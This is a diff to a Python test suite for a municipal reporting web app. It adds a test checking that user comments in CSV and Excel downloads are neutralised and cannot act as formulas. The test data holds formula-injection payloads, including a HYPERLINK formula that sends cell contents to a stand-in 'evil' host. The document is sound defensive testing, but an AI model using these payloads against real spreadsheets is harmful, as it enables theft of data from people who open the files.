@@ -3,6 +3,7 @@ deadline completeness, filters with and without htmx, downloads, and the number 
 
 from __future__ import annotations
 
+import csv
 import datetime
 import io
 import re
@@ -396,3 +397,33 @@ def test_a_new_member_is_not_other_tenants_member(world, safety_alarm_history):
     newcomer = UserFactory()
     MembershipFactory(user=newcomer, submitter=world.specialist)
     assert client_for(newcomer).get(url(world.municipality)).status_code == 404
+
+
+HOSTILE = ["=1+1", "+cmd", "@SUM(A1)", "-2+3", '=HYPERLINK("http://evil/?"&A1,"klikk")', "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_comment_is_never_a_formula_in_the_downloads(world, safety_alarm_history, text):
+    """A municipality user's comment is text in the Excel file (as written: a text cell is inert) and gets a
+    leading quote in the CSV (OWASP); the counts and percentages beside it are numbers in both."""
+    ChangeComment.objects.create(
+        submitter=world.municipality,
+        register="KPR",
+        year=YEAR,
+        dimension="service_code",
+        category="6",
+        text=text,
+        author=world.municipality_user,
+    )
+    client = client_for(world.municipality_user)
+    response = download(client, world.municipality, "kategorier", "csv", register="KPR", aar=YEAR)
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
+    (line,) = [row for row in rows if row[:2] == ["Tjenestekode", "6"]]
+    assert line[3:] == ["0", "0", "12", "12", "-12", "-100,0", "Forsvunnet", "'" + text]
+
+    response = download(client, world.municipality, "kategorier", "xlsx", register="KPR", aar=YEAR)
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    (line,) = [row for row in sheet.iter_rows(min_row=2) if (row[0].value, row[1].value) == ("Tjenestekode", "6")]
+    numbers = [(c.value, c.data_type) for c in line[3:9]]
+    assert numbers == [(0, "n"), (0, "n"), (12, "n"), (12, "n"), (-12, "n"), (-100.0, "n")]
+    assert (line[10].value, line[10].data_type) == (text, "s")
